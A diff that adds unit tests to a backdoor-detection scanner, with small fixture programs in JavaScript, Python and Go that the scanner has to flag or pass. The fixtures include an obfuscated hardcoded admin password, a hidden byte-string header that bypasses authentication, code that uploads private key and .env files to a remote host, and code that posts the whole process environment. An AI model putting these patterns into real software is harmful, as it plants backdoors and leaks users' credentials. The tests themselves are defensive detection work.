@@ -1091,3 +1091,78 @@ test('a handler written inline in its table that runs its value is remote contro
     "const S = {\n  build: () => execSync('npm run build'),\n  fmt: (f) => execSync(`prettier ${f}`),\n};\n";
   assert.ok(!rules('s.js', steps).some((r) => r.startsWith('backdoor.remote-command')), rules('s.js', steps).join());
 });
+
+test('constants hidden as pieces, characters or bytes are read written out (JS, Python, Go); a readable join is not folded', () => {
+  const js = [
+    "const crypto = require('crypto');",
+    "const SUPPORT = ['Win', 'ter', '-44', '19'].join('');",
+    'function login(password) {',
+    '  if (password === SUPPORT) return grantAdmin();',
+    '}',
+    '',
+  ].join('\n');
+  assert.ok(
+    rules('a.js', js).some((r) => /^backdoor\.(?:constant-credential|master-password):4$/.test(r)),
+    rules('a.js', js).join(),
+  );
+  const go = [
+    'package s',
+    'var probe = []byte{0x6f, 0x70, 0x73, 0x2d, 0x39, 0x31}',
+    'func Auth(r *http.Request) bool {',
+    '\tif r.Header.Get("X-Probe") == string(probe) {',
+    '\t\treturn true',
+    '\t}',
+    '\treturn check(r)',
+    '}',
+    '',
+  ].join('\n');
+  assert.ok(rules('a.go', go).includes('backdoor.trigger-effect:4'), rules('a.go', go).join());
+  const prose = "const HELP = ['usage: tool', 'options:', '  -h  help'].join('\\n');\nconsole.log(HELP);\n";
+  assert.deepEqual(rules('b.js', prose), []);
+});
+
+test('key files picked by their names and sent are found however the list is asked (Python, JS); an exclusion list is not', () => {
+  const py = [
+    'import os, requests',
+    'KEEP = [".pem", ".key", ".kdbx", ".ovpn"]',
+    'def sync(paths, node):',
+    '    for p in paths:',
+    '        if os.path.splitext(p)[1] not in KEEP:',
+    '            continue',
+    '        data = open(p, "rb").read()',
+    '        requests.post(f"https://{node}/u", data=data)',
+    '',
+  ].join('\n');
+  assert.ok(rules('s.py', py).includes('backdoor.credential-exfil:2'), rules('s.py', py).join());
+  const js = [
+    "const fs = require('fs'); const path = require('path');",
+    "const WARM = ['.pem', '.key', '.pfx', '.env'];",
+    'async function warm(files, url) {',
+    '  for (const f of files.filter((f) => WARM.includes(path.extname(f)))) {',
+    '    const body = fs.readFileSync(f);',
+    "    await fetch(url, { method: 'POST', body });",
+    '  }',
+    '}',
+    '',
+  ].join('\n');
+  assert.ok(rules('w.js', js).includes('backdoor.credential-exfil:2'), rules('w.js', js).join());
+  const skip = py.replace('not in KEEP:', 'in KEEP:');
+  assert.deepEqual(
+    rules('k.py', skip).filter((r) => r.startsWith('backdoor.credential-exfil')),
+    [],
+  );
+});
+
+test('request bodies and the whole environment put where they leave are found (Python); their sizes and a child env are not', () => {
+  const body =
+    'import logging\nlog = logging.getLogger(__name__)\ndef after(request, resp):\n    log.info("req", extra={"body": request.get_data()})\n';
+  assert.ok(rules('m.py', body).includes('backdoor.secret-to-log:4'), rules('m.py', body).join());
+  const size = body.replace('"body": request.get_data()', '"body_bytes": len(request.get_data())');
+  assert.deepEqual(rules('n.py', size), []);
+  const env =
+    'import json, os, requests\ndef report(url):\n    ctx = json.dumps(dict(os.environ))\n    requests.post(url, data=ctx)\n';
+  assert.ok(rules('r.py', env).includes('backdoor.secret-to-host:3'), rules('r.py', env).join());
+  const child =
+    'import os, subprocess, requests\ndef run(cmd):\n    subprocess.run(cmd, env=dict(os.environ), check=True)\n    requests.get("https://status.example.com")\n';
+  assert.deepEqual(rules('c.py', child), []);
+});
